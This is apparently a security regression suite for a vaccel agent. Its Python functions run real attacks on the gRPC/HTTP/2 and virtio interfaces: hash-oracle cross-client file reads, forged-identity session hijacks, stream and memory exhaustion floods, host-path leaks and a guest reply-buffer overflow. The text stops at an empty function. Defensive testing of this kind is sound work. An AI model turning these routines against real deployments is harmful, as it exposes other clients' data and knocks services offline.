"""Every attack of issue 9, run against a real agent process.

Each attack is a function ``(ctx) -> Outcome``: it does what the attacker of the issue did,
with the real client pieces (plain gRPC, the transport's own channel, raw HTTP/2, a raw
virtio-mock guest), and says what the attacker got and whether the attack still succeeds
(the agent gave the attacker what it wanted: another client's bytes or sessions, unbounded
memory, threads or files, an echo of its input, a host path, ...). While its state is in
place an attack calls ``ctx.hold()``: the benchmark then checks that a new client can still
connect, and keeps measuring the victim and the agent's RSS. Every step has a timeout.
"""

from __future__ import annotations

import contextlib
import hashlib
import math
import os
import re
import secrets
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from . import h2raw
from .agentproc import Agent, AgentStartError, cpu_seconds, start_agent
from .clients import ERROR_BOUND, AttachedClient, PlainClient, Reply, random_digest
from .virtio_guest import GuestError, RawGuest, control_socket

GiB = 1 << 30
MiB = 1 << 20


@dataclass
class Outcome:
    """``succeeded``: the attack still works (None: could not tell); ``got``: what the
    attacker got back, in words."""

    succeeded: bool | None
    got: str
    numbers: dict[str, Any] = field(default_factory=dict)


@dataclass
class Ctx:
    """What an attack may use: the agent (None for checks that start their own), its limits,
    the victim's ids, a scratch folder, and ``hold()``."""

    agent: Agent | None
    limits: Any  # vaccel_agent.limits.Limits
    tmp: Path
    quick: bool
    hold_seconds: float
    agent_args: list[str]
    victim_info: dict[str, Any] = field(default_factory=dict)
    secret: bytes = b""
    engaged_at: float | None = None
    on_engaged: Callable[[], None] | None = None
    victim_errors_since: Callable[[float], int] | None = None
    sampler: Any = None
    notes: list[str] = field(default_factory=list)

    def address(self, scheme: str) -> str:
        assert self.agent is not None
        return self.agent.address(scheme)

    def engaged(self) -> None:
        """The attack's state is in place: measuring "during the attack" starts now, and the
        new-client probes are launched."""
        if self.engaged_at is None:
            self.engaged_at = time.monotonic()
            if self.on_engaged is not None:
                self.on_engaged()

    def hold(self) -> None:
        self.engaged()
        time.sleep(self.hold_seconds)

    def rss(self) -> int:
        if self.sampler is None:
            return 0
        sample = self.sampler.now()
        return sample.rss if sample is not None else 0

    def rss_peak_since(self, start: float) -> int:
        if self.sampler is None:
            return 0
        return max((s.rss for s in self.sampler.window(start, time.monotonic())), default=0)


def _mib(n: float) -> str:
    if n >= 1 << 40:
        return f"{n / (1 << 40):.1f} TiB"
    if n >= GiB:
        return f"{n / GiB:.2f} GiB"
    return f"{n / MiB:.0f} MiB"


def _noop_request(pb: Any, session_id: int) -> Any:
    request = pb.OpRequest(session_id=session_id, op="noop")
    request.noop.SetInParent()
    return request


def _reply_bytes(got: Reply) -> int:
    if not got.ok:
        return 0
    return len(got.reply.SerializeToString()) + sum(len(memoryview(b)) for b in got.buffers)


def _threads(fn: Callable[[int], Reply], count: int, timeout: float) -> list[Reply]:
    """Run ``fn(i)`` in ``count`` threads at once; the replies (a timeout counts as one)."""
    out: list[Reply | None] = [None] * count

    def run(i: int) -> None:
        try:
            out[i] = fn(i)
        except Exception as exc:
            out[i] = Reply(type(exc).__name__, None, str(exc))

    threads = [threading.Thread(target=run, args=(i,), daemon=True) for i in range(count)]
    for t in threads:
        t.start()
    deadline = time.monotonic() + timeout
    for t in threads:
        t.join(max(deadline - time.monotonic(), 0.0))
    return [r if r is not None else Reply("TIMEOUT", None, "no reply in time") for r in out]


def _tally(replies: list[Reply]) -> str:
    counts: dict[str, int] = {}
    for r in replies:
        counts[r.status] = counts.get(r.status, 0) + 1
    return ", ".join(f"{n} {s}" for s, n in sorted(counts.items(), key=lambda kv: -kv[1]))


def _first_error(replies: list[Reply]) -> str:
    return next((r.brief(160) for r in replies if not r.ok), "")


# 1 ---------------------------------------------------------------------------------------------
def attack_1(ctx: Ctx) -> Outcome:
    """Cross-client read through blob dedup: the victim registered a secret file; the
    attacker knows only its sha256."""
    secret = ctx.secret
    digest = hashlib.sha256(secret).hexdigest()
    client = AttachedClient(ctx.address("unix"))
    pb = client.pb
    try:
        sid = client.create_session()
        ctx.engaged()
        unknown = random_digest()
        probe = client.register(sid, [("a", unknown, 1), ("b", digest, 1)])
        oracle = (
            probe.ok
            and unknown in probe.reply.missing_blobs
            and digest not in probe.reply.missing_blobs
        )
        zero = client.register(sid, [("model.bin", digest, 0)])
        match = re.search(r"(\d+) bytes of blob", zero.details)
        leaked_size = int(match[1]) if match else None
        # An attacker who knows a file's hash usually knows its size too: try it either way.
        size = leaked_size if leaked_size is not None else len(secret)
        reg = client.register(sid, [("model.bin", digest, size)])
        data = b""
        how = reg.brief()
        if reg.ok and reg.reply.resource_id:
            sync = client.call(
                "SyncResource",
                pb.SyncResourceRequest(session_id=sid, resource_id=reg.reply.resource_id),
                pb.SyncResourceResponse,
            )
            how = sync.brief()
            if sync.ok and sync.reply.files:
                entry = sync.reply.files[0].data
                if entry.WhichOneof("where") == "inline":
                    data = bytes(entry.inline)
                elif entry.WhichOneof("where") == "buffer":
                    data = bytes(sync.buffers[entry.buffer])
        elif reg.ok:
            how = f"missing_blobs={len(reg.reply.missing_blobs)} (asked to upload it)"
        leaked = data == secret
        got = (
            f"hash oracle {'YES' if oracle else 'no'}; size leak "
            f"{'YES (' + str(leaked_size) + ' B)' if leaked_size is not None else 'no'}; "
        )
        got += f"read the victim's {len(secret)}-byte file: " + (
            "YES, byte for byte" if leaked else f"no ({how})"
        )
        return Outcome(leaked or oracle or leaked_size is not None, got)
    finally:
        client.close()


# 2 ---------------------------------------------------------------------------------------------
def attack_2(ctx: Ctx) -> Outcome:
    """Identity: another client tries to use and release the victim's session without the
    victim's capability (it knows the session id and the victim's peer id)."""
    unix = ctx.address("unix")
    vs = int(ctx.victim_info.get("session_id") or 0)
    vp = str(ctx.victim_info.get("peer_id") or "")
    if not vs:
        return Outcome(None, "the victim did not report its session id")
    results: list[str] = []
    used: list[str] = []
    clients: list[Any] = []
    try:
        attacker = AttachedClient(unix)
        clients.append(attacker)
        pb = attacker.pb
        ctx.engaged()
        r = attacker.call("Run", _noop_request(pb, vs), pb.OpResponse, timeout=5)
        results.append(f"own identity: {r.status}")
        if r.ok:
            used.append("own identity")
        if vp:
            p = PlainClient(unix, [("vaccel-peer-id", vp)])
            clients.append(p)
            r = p.call("Run", _noop_request(pb, vs), pb.OpResponse, timeout=5)
            results.append(f"peer-id metadata: {r.status}")
            if r.ok:
                used.append("vaccel-peer-id")
        forged = PlainClient(unix, [("vaccel-capability", secrets.token_urlsafe(32))])
        clients.append(forged)
        r = forged.call("Run", _noop_request(pb, vs), pb.OpResponse, timeout=5)
        results.append(f"forged capability: {r.status}")
        if r.ok:
            used.append("forged capability")
        # Two plain clients (no Attach, no metadata) on two connections.
        x, y = PlainClient(unix), PlainClient(unix)
        clients += [x, y]
        made = x.call("CreateSession", pb.CreateSessionRequest(), pb.CreateSessionResponse)
        if made.ok:
            r = y.call("Run", _noop_request(pb, made.reply.session_id), pb.OpResponse, timeout=5)
            results.append(f"anonymous neighbour: {r.status}")
            if r.ok:
                used.append("anonymous neighbour")
        else:
            results.append(f"anonymous CreateSession: {made.status}")
        released = False
        if vp:
            # Attach with the victim's peer id, then cancel: does the victim lose its sessions?
            p = PlainClient(unix, [("vaccel-peer-id", vp)])
            clients.append(p)
            t0 = time.monotonic()
            with contextlib.suppress(Exception):
                stream = p.attach()
                with contextlib.suppress(Exception):
                    next(iter(stream))
                stream.cancel()
            time.sleep(1.0)
            errors = ctx.victim_errors_since(t0) if ctx.victim_errors_since else 0
            results.append(f"Attach+cancel as the victim: victim errors after: {errors}")
            if errors:
                released = True
                used.append("released via Attach")
        if not released and vp:
            p = PlainClient(unix, [("vaccel-peer-id", vp)])
            clients.append(p)
            r = p.call(
                "DestroySession",
                pb.DestroySessionRequest(session_id=vs),
                pb.DestroySessionResponse,
                timeout=5,
            )
            results.append(f"DestroySession as the victim: {r.status}")
            if r.ok:
                used.append("destroyed")
        got = ("USED the victim's session: " + ", ".join(used) + "; " if used else "") + "; ".join(
            results
        )
        return Outcome(bool(used), got)
    finally:
        for c in clients:
            c.close()


# 3-6: raw HTTP/2 ------------------------------------------------------------------------------
def _h2(result: h2raw.H2Result) -> Outcome:
    return Outcome(result.succeeded, result.got, result.numbers)


def attack_3(ctx: Ctx) -> Outcome:
    return _h2(
        h2raw.attack_half_headers(
            ctx.address("tcp"),
            ctx.hold,
            streams=64,
            max_streams=int(ctx.limits.max_streams),
            attach=True,
        )
    )


def attack_4(ctx: Ctx) -> Outcome:
    """Half-sent bodies worth twice --max-inflight-bytes: as many attached connections as it
    takes, each with --max-streams - 1 calls (one stream is its Attach) announcing a message
    just under --max-message-size and sending all of it but 1 MiB (32 MiB at most)."""
    limit = int(ctx.limits.max_message_bytes)
    announce = max(limit - 1024, 2 << 20)
    per_stream = min(32 * MiB, announce - MiB)
    streams = max(int(ctx.limits.max_streams) - 1, 1)
    target = 2 * int(ctx.limits.max_inflight_bytes)
    connections = min(max(math.ceil(target / (streams * per_stream)), 1), 32)
    return _h2(
        h2raw.attack_half_bodies(
            ctx.address("tcp"),
            ctx.hold,
            connections=connections,
            streams=streams,
            announce=announce,
            per_stream=per_stream,
            budget_seconds=20.0 if ctx.quick else 40.0,
            attach=True,
        )
    )


def attack_5(ctx: Ctx) -> Outcome:
    return _h2(
        h2raw.attack_idle_prefaces(
            ctx.address("tcp"),
            ctx.hold,
            count=1000,
            max_connections=int(ctx.limits.max_connections),
            recheck_after=float(ctx.limits.handshake_timeout) + 2.0,
        )
    )


def attack_6(ctx: Ctx) -> Outcome:
    return _h2(
        h2raw.attack_attach_streams(
            ctx.address("tcp"), ctx.hold, streams=64, max_streams=int(ctx.limits.max_streams)
        )
    )


# 7 ---------------------------------------------------------------------------------------------
def _tensor(msg: Any, shape: tuple[int, ...]) -> None:
    msg.dtype = "float32"
    msg.shape.extend(shape)
    msg.inline = b""


def _sgemm(pb: Any, sid: int, m: int, n: int) -> Any:
    request = pb.OpRequest(session_id=sid, op="blas_sgemm")
    _tensor(request.blas_sgemm.a, (m, 0))
    _tensor(request.blas_sgemm.b, (0, n))
    return request


def attack_7(ctx: Ctx) -> Outcome:
    """Tiny requests, huge replies: sgemm (16383,0)x(0,16383), exec write_sizes=[1 GiB-64],
    six concurrent 8192x8192 sgemms, and 24 concurrent sgemms just under the message limit
    from three clients (their sum is over --max-inflight-bytes)."""
    unix = ctx.address("unix")
    limit = int(ctx.limits.max_message_bytes)
    parts: list[str] = []
    over = False
    clients = [AttachedClient(unix) for _ in range(3)]
    try:
        pb = clients[0].pb
        sids = [c.create_session() for c in clients]
        ctx.engaged()

        def step(name: str, fn: Callable[[], list[Reply]], allowed: int = limit) -> None:
            """``allowed``: the most the agent's RSS may grow by (one message, or all calls
            in flight together)."""
            nonlocal over
            start = time.monotonic()
            before = ctx.rss()
            replies = fn()
            grew = max(ctx.rss_peak_since(start) - before, 0)
            biggest = max((_reply_bytes(r) for r in replies), default=0)
            if biggest > limit or grew > allowed:  # a reply over the limit, or built anyway
                over = True
            text = f"{name}: {_tally(replies)}"
            if biggest:
                text += f", largest reply {biggest:,} B"
            text += f", agent RSS +{_mib(grew)}"
            err = _first_error(replies)
            if err:
                text += f" [{err}]"
            parts.append(text)

        big = 16383
        request = _sgemm(pb, sids[0], big, big)
        step(
            f"sgemm {len(request.SerializeToString())} B -> {big}x{big}",
            lambda: [clients[0].call("Run", request, pb.OpResponse, timeout=120)],
        )
        ex = pb.OpRequest(session_id=sids[0], op="exec")
        ex.exec.library = "x"
        ex.exec.fn_symbol = "y"
        ex.exec.write_sizes.append(GiB - 64)
        step(
            f"exec {len(ex.SerializeToString())} B -> write_sizes [1 GiB-64]",
            lambda: [clients[0].call("Run", ex, pb.OpResponse, timeout=120)],
        )
        six = _sgemm(pb, sids[0], 8192, 8192)
        step(
            "6 concurrent 8192x8192 sgemm",
            lambda: _threads(
                lambda i: clients[0].call("Run", six, pb.OpResponse, timeout=120), 6, 150
            ),
        )
        side = math.isqrt(max(limit - 65536, 4) // 4)
        under = [_sgemm(pb, sid, side, side) for sid in sids]
        # A bystander (another client) keeps making a modest call (a 1 MiB reply) meanwhile.
        bystander = AttachedClient(unix)
        clients.append(bystander)
        small = _sgemm(pb, bystander.create_session(), 512, 512)
        stop = threading.Event()
        seen: list[Reply] = []

        def bystand() -> None:
            while not stop.is_set() and len(seen) < 10_000:
                seen.append(bystander.call("Run", small, pb.OpResponse, timeout=30))
                if not seen[-1].ok:
                    time.sleep(0.05)

        watcher = threading.Thread(target=bystand, daemon=True)
        watcher.start()
        try:
            step(
                f"24 concurrent {side}x{side} sgemm (3 clients)",
                lambda: _threads(
                    lambda i: clients[i % 3].call("Run", under[i % 3], pb.OpResponse, timeout=120),
                    24,
                    150,
                ),
                int(ctx.limits.max_inflight_bytes),
            )
        finally:
            stop.set()
            watcher.join(35)
        lost = getattr(bystander.channel, "lost", None)
        text = f"a bystander's 1 MiB sgemm meanwhile: {_tally(seen)}"
        if _first_error(seen):
            text += f" [{_first_error(seen)}]"
        if lost:
            text += "; its connection is then LOST (its sessions gone)"
            over = True
        parts.append(text)
        return Outcome(over, "; ".join(parts))
    finally:
        for c in clients:
            c.close()


# 8 ---------------------------------------------------------------------------------------------
def attack_8(ctx: Ctx) -> Outcome:
    """SyncResource of a 256 MiB file (4 at once), when the message limit is smaller."""
    unix = ctx.address("unix")
    limit = int(ctx.limits.max_message_bytes)
    size = 256 * MiB
    client = AttachedClient(unix)
    try:
        pb = client.pb
        sid = client.create_session()
        data = os.urandom(32) + bytes(size - 32)
        up = client.put_blob(data, chunk=min(16 * MiB, limit // 2))
        if not up.ok:
            return Outcome(None, f"could not upload the 256 MiB blob: {up.brief()}")
        digest = hashlib.sha256(data).hexdigest()
        del data
        reg = client.register(sid, [("big.bin", digest, size)])
        if not (reg.ok and reg.reply.resource_id):
            return Outcome(None, f"could not register it: {reg.brief()}")
        rid = reg.reply.resource_id
        ctx.engaged()
        start = time.monotonic()
        before = ctx.rss()
        request = pb.SyncResourceRequest(session_id=sid, resource_id=rid)
        replies = _threads(
            lambda i: client.call("SyncResource", request, pb.SyncResourceResponse, timeout=120),
            4,
            150,
        )
        grew = max(ctx.rss_peak_since(start) - before, 0)
        biggest = max((_reply_bytes(r) for r in replies), default=0)
        got = f"4 x SyncResource of 256 MiB: {_tally(replies)}; agent RSS +{_mib(grew)}"
        if biggest:
            got += f"; largest reply {biggest:,} B"
        err = _first_error(replies)
        if err:
            got += f" [{err}]"
        return Outcome(biggest > limit or grew > limit, got)
    finally:
        client.close()


# 9 ---------------------------------------------------------------------------------------------
def attack_9(ctx: Ctx) -> Outcome:
    """Empty PutBlobs that announce the largest blob reserve quota; does the reservation
    outlive the client (a plain gRPC client, which the agent cannot see leave)?"""
    unix = ctx.address("unix")
    size = int(ctx.limits.max_blob_bytes) or 4 * GiB
    quota = int(ctx.limits.blob_quota_bytes) or 16 * GiB
    attempts = min(math.ceil(quota / size) + 4, 64)

    def reserve(client: PlainClient) -> list[Reply]:
        out = []
        for _ in range(attempts):
            request = client.pb.PutBlobRequest(sha256=random_digest(), size=size, offset=0)
            request.data.inline = b""
            out.append(client.call("PutBlob", request, client.pb.PutBlobResponse, timeout=10))
        return out

    # A plain gRPC client first (the agent cannot see it leave); where the agent wants an
    # identity, an attached client that then goes away.
    attacker: PlainClient = PlainClient(unix)
    who = "plain gRPC client"
    replies = reserve(attacker)
    if not any(r.ok for r in replies) and replies[0].status == "UNAUTHENTICATED":
        attacker.close()
        attacker = IdentifiedClient(unix)
        who = "attached client"
        replies = reserve(attacker)
    reserved = sum(1 for r in replies if r.ok) * size
    attacker.close()
    left = time.monotonic()
    ctx.engaged()
    other = AttachedClient(unix)
    try:
        blob = os.urandom(MiB)
        first = other.put_blob(blob)
        refused_for = 0.0
        last = first
        watch = 4.0 if ctx.quick else 10.0
        while not last.ok and time.monotonic() - left < watch:
            time.sleep(1.0)
            last = other.put_blob(blob)
        refused_for = time.monotonic() - left if not last.ok else 0.0
        got = (
            f"{who}: {sum(1 for r in replies if r.ok)}/{attempts} empty PutBlobs of "
            f"{_mib(size)} accepted ({_mib(reserved)} reserved, 0 B sent)"
        )
        err = _first_error(replies)
        if err:
            got += f" [{err}]"
        if first.ok:
            got += "; after the attacker left, another client's 1 MiB upload: OK"
        elif last.ok:
            got += f"; another client's upload refused, then OK after {refused_for:.0f} s"
        else:
            got += (
                f"; another client's 1 MiB upload still refused {refused_for:.0f} s after the "
                f"attacker left [{last.brief(80)}]"
            )
        client_cap = int(ctx.limits.max_client_blob_bytes) or quota
        return Outcome(not first.ok or reserved > client_cap, got)
    finally:
        other.close()


# 10 --------------------------------------------------------------------------------------------
def attack_10(ctx: Ctx) -> Outcome:
    """RegisterResource with N file names (40,000; 20,000 with --quick)."""
    assert ctx.agent is not None
    count = 20_000 if ctx.quick else 40_000
    client = AttachedClient(ctx.address("unix"))
    try:
        sid = client.create_session()
        request = client.pb.RegisterResourceRequest(session_id=sid, type=1)
        digest = random_digest()
        for i in range(count):
            request.files.add(name=f"{i:08d}.bin", sha256=digest, size=1)
        ctx.engaged()
        cpu0 = cpu_seconds(ctx.agent.pid)
        t0 = time.monotonic()
        got = client.call(
            "RegisterResource", request, client.pb.RegisterResourceResponse, timeout=120
        )
        wall = time.monotonic() - t0
        cpu = cpu_seconds(ctx.agent.pid) - cpu0
        size = len(request.SerializeToString())
        what = f"missing_blobs={len(got.reply.missing_blobs)}" if got.ok else got.brief(100)
        text = (
            f"{count} names ({size / MiB:.1f} MiB): {what} after {wall:.2f} s, "
            f"agent CPU {cpu:.2f} s"
        )
        return Outcome(cpu > 1.0, text, {"cpu": cpu, "wall": wall})
    finally:
        client.close()


# 11 --------------------------------------------------------------------------------------------
class IdentifiedClient(PlainClient):
    """A plain gRPC client with an identity: it attaches (random peer id for agents that read
    one, the capability from the AttachEvent for agents that issue one) and sends both with
    every call. Large metadata limits, so that a long error comes back whole."""

    def __init__(self, address: str) -> None:
        super().__init__(address, [("vaccel-peer-id", secrets.token_hex(16))])
        self.stream = self.attach()
        try:
            first = next(iter(self.stream))
            event = self.pb.AttachEvent.FromString(first)
            capability = getattr(event, "capability", "")
            if capability:
                self.metadata += (("vaccel-capability", capability),)
        except Exception as exc:
            self.close()
            raise RuntimeError(f"Attach failed: {exc}") from exc

    def close(self) -> None:
        with contextlib.suppress(Exception):
            self.stream.cancel()
        super().close()


def attack_11(ctx: Ctx) -> Outcome:
    """Errors that echo input: a huge invalid sha256 and a huge file name; a 256-byte file
    name of a held blob (which failed with INTERNAL naming the agent's blob folder)."""
    unix = ctx.address("unix")
    limit = int(ctx.limits.max_message_bytes)
    client = IdentifiedClient(unix)
    pb = client.pb
    parts: list[str] = []
    echoed = False
    leaked_path = False
    try:
        sid_reply = client.call("CreateSession", pb.CreateSessionRequest(),
                                pb.CreateSessionResponse)  # fmt: skip
        sid = int(sid_reply.reply.session_id) if sid_reply.ok else 0
        ctx.engaged()
        # 4 MiB: far over any sane error, and under gRPC's 16 MiB hard limit on the metadata
        # a client accepts (a larger echo is cut by the client, not the agent).
        huge = "z" * min(4 * MiB, limit // 2)
        request = pb.PutBlobRequest(sha256=huge, size=1, offset=0)
        request.data.inline = b"x"
        r = client.call("PutBlob", request, pb.PutBlobResponse, timeout=60)
        parts.append(f"{_mib(len(huge))} sha256 -> {r.status} with {r.error_bytes:,} B of error")
        echoed |= r.error_bytes > ERROR_BOUND
        name = "/" + "n" * min(4 * MiB, limit // 2)
        reg = pb.RegisterResourceRequest(session_id=sid, type=1)
        reg.files.add(name=name, sha256=random_digest(), size=1)
        r = client.call("RegisterResource", reg, pb.RegisterResourceResponse, timeout=60)
        parts.append(f"{_mib(len(name))} file name -> {r.status} with {r.error_bytes:,} B of error")
        echoed |= r.error_bytes > ERROR_BOUND
        # A held blob (uploaded by this client), registered under a 256-byte name.
        blob = os.urandom(1024)
        up = client.call(
            "PutBlob",
            _put(pb, blob),
            pb.PutBlobResponse,
        )
        digest = hashlib.sha256(blob).hexdigest()
        reg = pb.RegisterResourceRequest(session_id=sid, type=1)
        reg.files.add(name="n" * 256, sha256=digest, size=len(blob))
        r = client.call("RegisterResource", reg, pb.RegisterResourceResponse, timeout=30)
        text = r.details
        leaked_path = bool(re.search(r"vaccel-agent-blobs|/tmp/|/var/|/run/|/home/", text))
        parts.append(
            f"256-byte file name (upload {up.status}) -> {r.brief(140)}"
            + (" [LEAKS A HOST PATH]" if leaked_path else "")
        )
        internal = r.status in ("INTERNAL", "UNKNOWN")
        return Outcome(echoed or leaked_path or internal, "; ".join(parts))
    finally:
        client.close()


def _put(pb: Any, blob: bytes) -> Any:
    request = pb.PutBlobRequest(sha256=hashlib.sha256(blob).hexdigest(), size=len(blob), offset=0)
    request.data.inline = blob
    return request


# 12 --------------------------------------------------------------------------------------------
def _files(root: Path) -> set[str]:
    if not root.exists():
        return set()
    return {str(p.relative_to(root)) for p in root.rglob("*") if p.is_file()}


def check_12(ctx: Ctx) -> Outcome:
    """SIGKILL the agent while it holds a blob, a resource and a partial upload; restart it on
    the same --blob-dir: are the dead agent's files swept?"""
    blob_dir = ctx.tmp / "blobs12"  # made by the agent
    sock = ctx.tmp / "a12.sock"
    args = ["--log-level", "2", "--blob-dir", str(blob_dir), *ctx.agent_args]
    first = start_agent([f"unix://{sock}"], args)
    client: AttachedClient | None = None
    try:
        client = AttachedClient(first.addresses[0])
        sid = client.create_session()
        blob = os.urandom(MiB)
        client.put_blob(blob)
        client.register(sid, [("model.bin", hashlib.sha256(blob).hexdigest(), len(blob))])
        partial = os.urandom(2 * MiB)
        client.put_blob(partial[:MiB], chunk=MiB, size=len(partial))  # first chunk only
        before = _files(blob_dir)
        first.kill()
    finally:
        if client is not None:
            client.close()
        first.kill()
    after_kill = _files(blob_dir)
    second = start_agent([f"unix://{sock}"], args)
    try:
        time.sleep(1.0)
        left = after_kill & _files(blob_dir)
    finally:
        second.stop()
    kinds = {
        "blobs": sum(1 for f in left if re.search(r"/[0-9a-f]{64}$", f)),
        "partial": sum(1 for f in left if f.endswith(".partial")),
        "resource": sum(1 for f in left if "/resource-" in f),
    }
    got = (
        f"{len(before)} files in --blob-dir before SIGKILL, {len(after_kill)} after; "
        f"{len(left)} still there after the restart"
    )
    if left:
        got += f" ({kinds['blobs']} blobs, {kinds['resource']} resource files, "
        got += f"{kinds['partial']} .partial)"
    return Outcome(bool(left), got)


# 13 --------------------------------------------------------------------------------------------
def _try_start(addresses: list[str], args: list[str], timeout: float = 30.0) -> Agent | str:
    """The running agent, or why it refused to start (its last line)."""
    try:
        return start_agent(addresses, args, timeout=timeout)
    except AgentStartError as exc:
        lines = [line for line in exc.log.splitlines() if line.strip()]
        return (lines[-1] if lines else f"exit {exc.returncode}")[:140]


def check_13(ctx: Ctx) -> Outcome:
    """Configuration: tcp on 0.0.0.0 and world-writable sockets without --insecure, a second
    agent on a busy port, GetStatus of other clients' counts, the bearer token enforced."""
    found: list[str] = []
    parts: list[str] = []
    base = ["--log-level", "2", *ctx.agent_args]

    started = _try_start(["tcp://0.0.0.0:0"], base)
    if isinstance(started, Agent):
        found.append("0.0.0.0")
        parts.append(f"tcp://0.0.0.0 without --insecure: LISTENS ({started.addresses[0]})")
        started.stop()
    else:
        parts.append(f"tcp://0.0.0.0: refused ({started})")

    sock = ctx.tmp / "a13.sock"
    started = _try_start([f"unix://{sock}"], [*base, "--socket-mode", "777"])
    if isinstance(started, Agent):
        mode = oct(os.stat(sock).st_mode & 0o777) if sock.exists() else "?"
        found.append("socket-mode 777")
        parts.append(f"--socket-mode 777 without --insecure: LISTENS (socket {mode})")
        started.stop()
    else:
        parts.append(f"--socket-mode 777: refused ({started})")

    one = start_agent(["tcp://127.0.0.1:0"], base)
    try:
        busy = one.addresses[0]
        started = _try_start([busy], base, timeout=20)
        if isinstance(started, Agent):
            found.append("shared port")
            parts.append(f"second agent on busy {busy}: LISTENS too (port shared)")
            started.stop()
        else:
            parts.append(f"second agent on a busy port: refused ({started})")
    finally:
        one.stop()

    sock = ctx.tmp / "b13.sock"
    agent = start_agent([f"unix://{sock}"], base)
    owner = other = None
    try:
        owner = AttachedClient(agent.addresses[0])
        owner.create_session()
        owner.create_session()
        other = AttachedClient(agent.addresses[0])
        status = other.call("GetStatus", other.pb.StatusRequest(), other.pb.StatusResponse)
        if status.ok and status.reply.sessions >= 2:
            found.append("GetStatus")
            parts.append(
                f"GetStatus of a client holding nothing: sessions={status.reply.sessions}, "
                f"peers={status.reply.peers} (others' counts)"
            )
        else:
            seen = f" sessions={status.reply.sessions}" if status.ok else ""
            parts.append(f"GetStatus of a client holding nothing: {status.brief()}{seen}")
    finally:
        for c in (owner, other):
            if c is not None:
                c.close()
        agent.stop()

    token = ctx.tmp / "token"
    token.write_text(secrets.token_hex(24) + "\n")
    token.chmod(0o600)
    sock = ctx.tmp / "c13.sock"
    started = _try_start([f"unix://{sock}"], [*base, "--token-file", str(token)])
    if isinstance(started, Agent):
        try:
            plain = PlainClient(started.addresses[0])
            r = plain.call("GetStatus", plain.pb.StatusRequest(), plain.pb.StatusResponse)
            plain.close()
            if r.ok:
                found.append("token not enforced")
                parts.append("--token-file: a client without the token is served (GetStatus OK)")
            else:
                parts.append(f"--token-file: a client without the token gets {r.status}")
        finally:
            started.stop()
    else:
        parts.append(f"--token-file: agent did not start ({started})")
    got = ("STILL: " + ", ".join(found) + "; " if found else "") + "; ".join(parts)
    return Outcome(bool(found), got)


# 14: virtio-mock -------------------------------------------------------------------------------
def _ctl(ctx: Ctx) -> str:
    return ctx.address("virtio-mock")[len("virtio-mock://") :]


def attack_14a(ctx: Ctx) -> Outcome:
    """An error reply longer than the guest's reply buffer: a 4096-byte reply descriptor (the
    smallest allowed) and a method name of 1024 control characters (JSON-escaped 6x in the
    error); 16 KiB of canary after the buffer."""
    guest = RawGuest(_ctl(ctx), memory=4 * MiB, num=64)
    try:
        guest.handshake()
        ctx.engaged()
        assert guest.mem is not None
        # Canary first, over what the request, the reply buffer and 16 KiB after it will take.
        start = guest._next_free
        guest.mem[start : start + 32768] = b"\xa5" * 32768
        _head, reply = guest.submit("\x01" * 1024, b"", reply_len=4096)
        canary_at = reply + 4096
        done = guest.wait_used(1, 10.0)
        if not done:
            return Outcome(None, "no completion within 10 s" + (
                " (device closed the socket)" if guest.control_closed() else ""))  # fmt: skip
        written = done[0][1]
        spoiled = sum(1 for b in guest.mem[canary_at : canary_at + 16384] if b != 0xA5)
        _kind, _, error = guest.reply(reply, min(written, 4096))
        got = f"device reported {written} B written into a 4096-B buffer; "
        got += f"{spoiled} B past its end overwritten"
        if error:
            got += f"; error text {len(error)} chars"
        return Outcome(spoiled > 0 or written > 4096, got)
    finally:
        guest.close()


def attack_14b(ctx: Ctx) -> Outcome:
    """48 guests hand over sparse memory files that together take the agent's whole address
    space (64 TiB, then halving down to 1 GiB, then 1 GiB each) and never finish set-up.
    Succeeded: a normal guest (64 MiB of memory) can no longer set up while they hold."""
    count = 48
    sizes = [max(64 << 40 >> i, GiB) for i in range(count)]
    guests: list[RawGuest] = []
    accepted: list[int] = []
    refused = 0
    first_refusal = ""
    try:
        for size in sizes:
            try:
                g = RawGuest(_ctl(ctx), memory=size, map_memory=False, timeout=5.0)
            except OSError as exc:
                refused += 1
                first_refusal = first_refusal or f"connect: {exc}"
                continue
            guests.append(g)
            try:
                g.step({"req": "GET_FEATURES"})
                reply = g.set_memory()
            except GuestError as exc:
                refused += 1
                first_refusal = first_refusal or str(exc)
                continue
            if reply.get("ok"):
                accepted.append(size)
            else:
                refused += 1
                first_refusal = first_refusal or str(reply.get("error"))
        ctx.engaged()
        normal = "ok"
        try:
            honest = RawGuest(_ctl(ctx), memory=64 * MiB, timeout=5.0)
            try:
                honest.handshake()
            finally:
                honest.close()
        except (GuestError, OSError) as exc:
            normal = f"REFUSED ({str(exc)[:80]})"
        ctx.hold()
        got = (
            f"{len(accepted)}/{count} memory tables accepted ({_mib(sum(accepted))} mapped), "
            f"{refused} refused; a normal guest meanwhile: {normal}"
        )
        if first_refusal:
            got += f" [{first_refusal[:90]}]"
        return Outcome(normal != "ok", got, {"accepted": len(accepted)})
    finally:
        for g in guests:
            g.close()


def attack_14c(ctx: Ctx) -> Outcome:
    """One guest asks for 64 replies just under the message limit with a small reply buffer
    and never fetches them (the device keeps each for a FETCH)."""
    limit = int(ctx.limits.max_message_bytes)
    side = math.isqrt(max(limit - 65536, 4) // 4)
    count = 64
    guest = RawGuest(_ctl(ctx), memory=64 * MiB, num=256, timeout=10.0)
    try:
        guest.handshake()
        from vaccel_core.proto import pb as load

        pb = load()
        made = pb.CreateSessionResponse.FromString(
            guest.call_method("CreateSession", pb.CreateSessionRequest().SerializeToString())
        )
        payload = _sgemm(pb, made.session_id, side, side).SerializeToString()
        ctx.engaged()
        start = time.monotonic()
        before = ctx.rss()
        offsets = {}
        for _ in range(count):
            head, off = guest.submit("Run", payload)
            offsets[head] = off
        done = guest.wait_used(count, 120.0)
        kinds: dict[int, int] = {}
        errors = []
        for head, written in done:
            kind, _, error = guest.reply(offsets.get(head, 0), written)
            kinds[kind] = kinds.get(kind, 0) + 1
            if error:
                errors.append(error)
        grew = max(ctx.rss_peak_since(start) - before, 0)
        kept = kinds.get(2, 0)
        held = kept * side * side * 4
        got = (
            f"{len(done)}/{count} completed: {kept} NEED_SPACE (kept for FETCH, "
            f"{_mib(held)}), {kinds.get(0, 0)} OK, {kinds.get(1, 0)} error; agent RSS "
            f"+{_mib(grew)}"
        )
        if errors:
            got += f" [{errors[0][:90]}]"
        ctx.hold()
        cap = int(ctx.limits.max_client_inflight_bytes)
        return Outcome(held > cap or grew > cap, got, {"held": held})
    finally:
        guest.close()


def attack_14d(ctx: Ctx) -> Outcome:
